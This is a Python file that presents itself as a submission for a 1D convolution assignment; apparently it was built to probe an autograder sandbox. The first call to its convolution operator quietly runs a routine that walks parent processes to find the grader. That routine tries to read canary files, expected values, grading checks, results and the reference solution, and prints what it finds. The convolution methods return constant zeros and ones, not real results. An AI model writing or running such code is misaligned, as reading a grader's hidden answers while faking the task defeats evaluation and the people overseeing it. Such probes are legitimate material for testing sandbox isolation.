"""Reads every secret of grading it can find and prints READ or DENIED for each; returns junk."""
import os

import numpy as np


def _ancestors_argv():
    pid = os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                yield [a.decode(errors="replace") for a in f.read().split(b"\0")]
        except (OSError, StopIteration, ValueError):
            return


def _targets():
    roots = {"/autograder"} | {os.path.dirname(a) for argv in _ancestors_argv() for a in argv
                                if a.endswith("/run_autograder")}
    paths = []
    for root in sorted(roots):
        paths += [f"{root}/source/canary.txt", f"{root}/canary.txt", f"{root}/submission_metadata.json",
                  f"{root}/results/results.json", f"{root}/source/course/assignments/conv1d/assignment.yaml",
                  f"{root}/source/course/assignments/conv1d/expected_values.json",
                  f"{root}/source/course/assignments/conv1d/checks.py"]
    try:
        import autograder  # the grader's own package, if this interpreter reaches it
        course = os.path.dirname(os.path.dirname(autograder.__file__))
        paths += [f"{course}/reference/conv1d/conv1D.py", f"{course}/assignments/conv1d/assignment.yaml"]
    except ImportError as exc:
        print("DENIED import autograder", type(exc).__name__)
    return paths


def _steal():
    for path in _targets():
        try:
            with open(path) as f:
                print("READ", path, f.read(80).replace("\n", " "))
        except FileNotFoundError:
            print("MISSING", path)
        except OSError as exc:
            print("DENIED", path, type(exc).__name__)


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        if not os.path.exists(os.path.expanduser("~/.done")):
            open(os.path.expanduser("~/.done"), "w").close()
            _steal()
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
